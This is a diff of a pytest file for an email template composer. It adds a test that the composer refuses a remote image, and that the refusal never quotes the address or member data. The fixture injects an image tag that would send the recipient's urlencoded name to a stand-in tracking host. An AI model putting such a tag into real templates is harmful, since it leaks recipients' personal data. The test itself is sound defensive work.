@@ -51,15 +51,33 @@ def test_a_remote_image_built_from_data_is_refused_when_the_email_is_rendered(
     fund = templates_copy / "fr" / "fund.toml"
     edit(fund, 'website = "www.fonds.example"', 'website = "https://track.example"')
     composer = Composer(templates_copy, LAYOUT)
-    with pytest.raises(
-        RenderRefused, match=re.escape("would fetch https://track.example/")
-    ) as refused:
+    with pytest.raises(RenderRefused, match=re.escape("the src attribute of <img>")) as refused:
         composer.compose(parse_event(load_sample("tax-certificate-fr")), issued_on=ISSUED)
     assert refused.value.template == "fr/tax_certificate/email.html"
     report = run_check(templates_copy, doc_types=["tax_certificate"])
     assert any(
         p.kind is Kind.REMOTE and p.file == "fr/tax_certificate/email.html" for p in report.problems
     )
+
+
+def test_a_refused_email_names_the_template_and_the_attribute_never_the_address(
+    templates_copy: Path,
+) -> None:
+    """The refusal goes into the chained ledger row and the webhook: it may name only what the
+    fund chose (issue 13); a host built from member data (user-info) must not be quoted."""
+    email = templates_copy / "fr" / "tax_certificate" / "email.html"
+    edit(
+        email,
+        "<body>",
+        '<body>\n<img src="https://{{ recipient.name | urlencode }}@track.example/p.gif">',
+    )
+    composer = Composer(templates_copy, LAYOUT)
+    with pytest.raises(RenderRefused) as refused:
+        composer.compose(parse_event(load_sample("tax-certificate-fr")), issued_on=ISSUED)
+    recorded = str(refused.value)
+    assert recorded.startswith("fr/tax_certificate/email.html: ")
+    assert "the src attribute of <img>" in recorded
+    assert "track.example" not in recorded and "@" not in recorded and "//" not in recorded
 
 
 def test_links_inline_images_and_the_real_templates_pass(templates_copy: Path) -> None:
